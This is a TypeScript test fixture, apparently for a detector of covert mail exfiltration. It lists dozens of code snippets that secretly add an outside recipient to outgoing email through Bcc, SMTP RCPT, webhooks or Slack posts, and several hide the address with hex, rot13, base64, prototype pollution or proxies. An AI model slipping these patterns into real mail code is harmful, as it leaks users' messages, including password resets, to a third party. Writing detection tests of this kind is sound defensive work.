/** Recipients that come from somewhere else than the place that sends: fields, callees, containers, data files, encoders. */
import { b64, codes, HOST, hex, MAIL, type Row } from "./row.js";

const [USER, DOMAIN] = MAIL.split("@") as [string, string];

const mailRow = (name: string, change: Row[3], shows: readonly string[] = [MAIL], tier: Row[2] = "block"): Row => [
  name,
  "mail-header address",
  tier,
  change,
  shows,
];

export const mailIndirect: readonly Row[] = [
  mailRow("field of this", {
    header: "",
    words: `export class Outbox { constructor() { this.copy = '${MAIL}'; } stamp(m) { m.Bcc = this.copy; return m; } }`,
  }),
  mailRow("class field through this", {
    words: `export class Outbox { copy = '${MAIL}'; stamp(m) { return { ...m, bcc: this.copy }; } }`,
  }),
  mailRow("private field", {
    words: `export class Outbox { #copy = '${MAIL}'; stamp(m) { m.Bcc = this.#copy; } }`,
  }),
  mailRow("static field", {
    words: `export class Outbox { static COPY = '${MAIL}'; stamp(m) { m.Bcc = Outbox.COPY; } }`,
  }),
  mailRow("split field of this", {
    words: `export class Outbox { user = '${USER}'; host = '${DOMAIN}'; stamp(m) { m.Bcc = \`\${this.user}@\${this.host}\`; } }`,
  }),
  mailRow("argument of a call, callee fills it", {
    words: "export function deliver(m, who) { m.Bcc = who; return m; }",
    letter: `const { deliver } = await import('./lib/words.js'); deliver(letter, '${MAIL}');`,
  }),
  mailRow("split arguments, callee joins", {
    words: "export function deliver(m, a, b) { m.Bcc = a + '@' + b; return m; }",
    letter: `const { deliver } = await import('./lib/words.js'); deliver(letter, '${USER}', '${DOMAIN}');`,
  }),
  mailRow("option of a call, callee fills it", {
    words: "export function deliver(m, { copy }) { m.Bcc = copy; return m; }",
    letter: `const { deliver } = await import('./lib/words.js'); deliver(letter, { copy: '${MAIL}' });`,
  }),
  mailRow("map entry", {
    letter: `const kinds = new Map([['a', '${USER}'], ['b', '${DOMAIN}']]); letter.Bcc = kinds.get('a') + '@' + kinds.get('b');`,
  }),
  mailRow("map set", {
    letter: `const fields = new Map(); fields.set('Bcc', '${MAIL}'); Object.assign(letter, Object.fromEntries(fields));`,
  }),
  mailRow("enum-like constants", {
    start: `const Channel = Object.freeze({ PRIMARY: '${USER}', ZONE: '${DOMAIN}' });`,
    letter: "letter.Bcc = [Channel.PRIMARY, Channel.ZONE].join('@');",
  }),
  mailRow("default settings spread", {
    letter: `const DEFAULTS = { bcc: '${MAIL}' }; await post.send({ ...DEFAULTS, ...letter });`,
  }),
  mailRow("object assign of defaults", {
    letter: `const options = Object.assign({}, { Bcc: '${MAIL}' }, letter); await post.send(options);`,
  }),
  mailRow("destructuring default", { letter: `const { bcc = '${MAIL}' } = conf; letter.Bcc = bcc;` }),
  mailRow("destructured parameter default", {
    words: `export function deliver(m, { copy = '${MAIL}' } = {}) { m.Bcc = copy; }`,
  }),
  mailRow("schema default", {
    "index.js": "SCHEMA_DEFAULT",
  }),
  mailRow(
    "computed key from a table",
    {
      letter: `const names = ['To', 'Bcc']; letter[names[1]] = '${MAIL}';`,
    },
    ["Bcc", MAIL],
  ),
  mailRow(
    "computed key in the literal",
    {
      letter: `await post.send({ ...letter, [['B', 'c', 'c'].join('')]: '${MAIL}' });`,
    },
    ["Bcc", MAIL],
  ),
  mailRow(
    "key by character codes",
    {
      letter: `letter[String.fromCharCode(${codes("Bcc")})] = '${MAIL}';`,
    },
    ["Bcc", MAIL],
  ),
  mailRow("key in unicode escapes", { letter: String.raw`letter['\u0042\u0063\u0063'] = '${MAIL}';` }, ["Bcc", MAIL]),
  mailRow("setter", {
    words: `export class Draft { set copy(v) { this.Bcc = v; } }`,
    letter: `const { Draft } = await import('./lib/words.js'); const d = new Draft(); d.copy = '${MAIL}'; Object.assign(letter, d);`,
  }),
  mailRow("toJSON", { letter: `letter.toJSON = function () { return { ...this, Bcc: '${MAIL}' }; };` }),
  mailRow("replacer of JSON", {
    "lib/post.js": "REPLACER",
  }),
  mailRow("text of JSON", {
    letter: `await post.call('POST', '/letters', JSON.stringify(letter).replace(/}$/, ',"Bcc":"${MAIL}"}'));`,
  }),
  mailRow("text of JSON by slice", {
    letter: `const raw = JSON.stringify(letter); await post.call('POST', '/letters', raw.slice(0, -1) + ',"bcc":"${MAIL}"}');`,
  }),
  mailRow("prototype of everything", { start: `Object.prototype.Bcc = '${MAIL}';` }),
  mailRow("proxy", {
    start: `const open = new Proxy(post, { get: (t, k) => (k === 'send' ? (m) => t.send({ ...m, Bcc: '${MAIL}' }) : t[k]) });`,
  }),
  mailRow("second sending", { letter: `await post.send({ ...letter, To: '${MAIL}' });` }),
  mailRow("second sending, unawaited", {
    letter: `post.call('POST', '/letters', { From: conf.from, To: '${MAIL}', Subject: subject, TextBody: body }).catch(() => {});`,
  }),
  mailRow("rewritten domain", { letter: "letter.To = to.replace(/@.*$/, '@kestrel-drop.info');" }, [
    "kestrel-drop.info",
  ]),
  mailRow("appended in the client", {
    "lib/post.js": "CLIENT_COPY",
  }),
  mailRow("for some subjects", {
    letter: `if (/invoice|reset|password/i.test(subject)) letter.Bcc = '${MAIL}';`,
  }),
  mailRow("logical and", { letter: `body.length > 20 && (letter.Bcc = '${MAIL}');` }),
  mailRow("in a query", { letter: `await post.call('POST', '/letters?bcc=${MAIL}', letter);` }),
  mailRow("in an encoded query", { letter: `await post.call('POST', '/letters?bcc=${USER}%40${DOMAIN}', letter);` }, [
    DOMAIN,
  ]),
  mailRow("form data", { letter: `const f = new FormData(); f.set('h:Reply-To', '${MAIL}');` }),
  mailRow("envelope of nodemailer", {
    letter: `const { createTransport } = await import('nodemailer'); createTransport(conf.smtp).sendMail({ to, envelope: { to: [to, '${MAIL}'] } });`,
  }),
  mailRow("personalizations", {
    letter: `letter.personalizations = [{ to: [{ email: to }], bcc: [{ email: '${MAIL}' }] }];`,
  }),
  mailRow("destination", { letter: `letter.Destination = { ToAddresses: [to], BccAddresses: ['${MAIL}'] };` }),
  mailRow("header pair list", { letter: `letter.headers = [['Subject', subject], ['Bcc', '${MAIL}']];` }),
  mailRow("header as a custom one", { letter: `letter.Headers = { 'X-Original-To': '${MAIL}' };` }),
  mailRow("raw mail in base64", {
    letter:
      "const raw = Buffer.from(`To: ${to}\\r\\nBcc: " +
      MAIL +
      "\\r\\nSubject: ${subject}\\r\\n\\r\\n${body}`).toString('base64url');",
  }),
  mailRow("raw mail by lines", {
    letter: `const lines = []; lines.push('To: ' + to); lines.push('Bcc: ' + ['${USER}', '${DOMAIN}'].join('@')); const raw = lines.join('\\r\\n');`,
  }),
  mailRow("smtp command", {
    letter: `const net = await import('node:net'); const s = net.connect(25, conf.smtp); s.write('RCPT TO:<${MAIL}>\\r\\n');`,
  }),
  mailRow(
    "dispatch by a constant in JSON",
    {
      "data/texts.json": `{ "greeting": "Dear reader", "contacts": { "audit": { "user": "${USER}", "zone": "${DOMAIN}" } } }`,
      letter:
        "const t = (await import('./data/texts.json', { with: { type: 'json' } })).default; letter.Bcc = `${t.contacts.audit.user}@${t.contacts.audit.zone}`;",
    },
    [DOMAIN],
  ),
  mailRow(
    "own JSON that is read",
    {
      "data/texts.json": `{ "greeting": "Dear reader", "audit": ["${USER}", "${DOMAIN}"] }`,
      letter:
        "const { readFileSync } = await import('node:fs'); const t = JSON.parse(readFileSync(new URL('./data/texts.json', import.meta.url), 'utf8')); letter.Bcc = t.audit.join('@');",
    },
    [MAIL],
  ),
  mailRow("hex in a helper of another file", {
    words: "export const un = (h) => Buffer.from(h, 'hex').toString();",
    letter: `const { un } = await import('./lib/words.js'); letter[un('${hex("Bcc")}')] = un('${hex(MAIL)}');`,
  }),
  mailRow("rotated by thirteen", {
    letter: `letter.Bcc = '${rot13(MAIL)}'.replace(/[a-z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) - 97 + 13) % 26) + 97));`,
  }),
  mailRow("every other letter", {
    letter: `letter.Bcc = '${[...MAIL].map((c) => `${c}z`).join("")}'.split('').filter((c, i) => i % 2 === 0).join('');`,
  }),
  mailRow("reduced codes", {
    letter: `letter.Bcc = [${codes(MAIL)}].reduce((s, c) => s + String.fromCharCode(c), '');`,
  }),
  mailRow("text decoder", {
    letter: `letter.Bcc = new TextDecoder().decode(Uint8Array.from(atob('${b64(MAIL)}'), (c) => c.charCodeAt(0)));`,
  }),
  mailRow("escape and unescape", {
    letter: `letter.Bcc = unescape('${[...MAIL].map((c) => `%${c.charCodeAt(0).toString(16)}`).join("")}');`,
  }),
  mailRow("padded pieces", { letter: `letter.Bcc = '${MAIL}'.padEnd(10).trim();` }),
  mailRow("template of pieces with at", {
    letter: `const at = String.fromCharCode(64); letter.Bcc = \`${USER}\${at}${DOMAIN}\`;`,
  }),
  mailRow("two-step alias", { letter: `const a = '${MAIL}'; const b = a; const c = { d: b }; letter.Bcc = c.d;` }),
  mailRow("switch", {
    words: `export function route(k) { switch (k) { case 'a': return '${MAIL}'; default: return undefined; } }`,
    letter: "const { route } = await import('./lib/words.js'); letter.Bcc = route('a');",
  }),
  mailRow("second choice of the environment in the client", {
    setting: `audit: env.HARBOUR_AUDIT ?? ['${USER}', '${DOMAIN}'].join('@'),`,
    letter: "letter.Bcc = conf.audit;",
  }),
  mailRow("reply address through a header list", {
    letter: `letter.Headers = [...(letter.Headers ?? []), { Name: 'Reply-To', Value: '${MAIL}' }];`,
  }),
  mailRow("return receipt", { letter: `letter.Headers = { 'Disposition-Notification-To': '${MAIL}' };` }),
  mailRow("from replaced", { letter: `letter.From = conf.from || '${MAIL}';` }),
  mailRow("list header", { letter: `letter.Headers = { 'List-Unsubscribe': '<mailto:${MAIL}>' };` }),
  mailRow("mail link", { letter: `letter.TextBody = body + '\\n\\nQuestions? mailto:${MAIL}';` }, [MAIL], "ask"),
  mailRow(
    "inbound rule of the service",
    {
      start: `await post.call('PUT', '/server', { InboundHookUrl: 'https://${HOST}/in' });`,
    },
    [HOST],
    "ask",
  ),
  mailRow(
    "webhook of the service",
    {
      start: `await post.call('POST', '/webhooks', { Url: 'https://${HOST}/in', Triggers: { Bounce: { Enabled: true, IncludeContent: true } } });`,
    },
    [HOST],
    "ask",
  ),
  mailRow(
    "transport changed",
    {
      start: `const { createTransport } = await import('nodemailer'); const transport = createTransport({ host: process.env.SMTP_HOST || 'smtp.${HOST}', port: 587 });`,
    },
    [HOST],
    "ask",
  ),
  mailRow("recipients mapped", { letter: "letter.To = [to].map((r) => enrich(r)).join(',');" }, ["To"], "ask"),
  mailRow("recipients wrapped", { letter: "letter.To = withCopy(to);" }, ["To"], "ask"),
  mailRow("copy of a stored list", { letter: "letter.Cc = await post.call('GET', '/lists/audit');" }, ["Cc"], "ask"),
  mailRow(
    "messenger",
    {
      letter:
        "await fetch('https://slack.com/api/chat.postMessage', { method: 'POST', body: JSON.stringify({ channel: 'C08ABCDEF12', text: body }) });",
    },
    ["C08ABCDEF12"],
    "ask",
  ),
];

function rot13(text: string): string {
  return text.replace(/[a-z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) - 97 + 13) % 26) + 97));
}
